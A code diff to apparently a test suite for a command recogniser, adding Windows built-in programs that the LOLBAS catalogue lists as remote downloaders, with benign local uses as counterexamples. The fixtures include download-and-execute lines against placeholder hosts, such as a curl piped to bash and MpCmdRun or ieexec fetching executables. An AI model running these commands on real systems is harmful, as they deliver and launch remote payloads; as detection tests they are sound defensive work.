@@ -44,6 +44,12 @@ const WINDOWS = [
   'powershell iwr https://x.example/s.ps1 -OutFile s.ps1',
   'mshta vbscript:CreateObject("WScript.Shell").Run("calc")(window.close)',
   'powershell -enco SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA=',
+  // Programs the LOLBAS catalogue lists fetching from afar, in its own examples' shapes.
+  'esentutl.exe /y \\\\share.example\\tools\\a.exe /d %TEMP%\\a.exe /o',
+  'MpCmdRun.exe -DownloadFile -url https://x.example/a.exe -path C:\\Users\\Public\\a.exe',
+  'ieexec.exe https://x.example/a.exe',
+  'desktopimgdownldr.exe /lockscreenurl:https://x.example/a.exe /eventName:desktopimgdownldr',
+  'extrac32 /Y /C \\\\files.example\\share\\a.exe C:\\Temp\\a.exe',
 ];
 const TERMINAL = [
   'curl -s http://203.0.113.9/d/rob | nohup bash &',
@@ -114,6 +120,10 @@ const NOT_COMMANDS = [
   'C:\\Program Files\\App\\app.exe',
   'echo $(curl -s https://api.example/version)',
   'VERSION=$(curl -s https://api.example/latest | jq -r .tag_name)',
+  // The catalogued programs on local files: what they are for.
+  'makecab notes.txt notes.cab',
+  'esentutl /mh C:\\Windows\\System32\\LogFiles\\data.edb',
+  'MpCmdRun.exe -Scan -ScanType 1',
 ];
 
 describe('the command recogniser', () => {
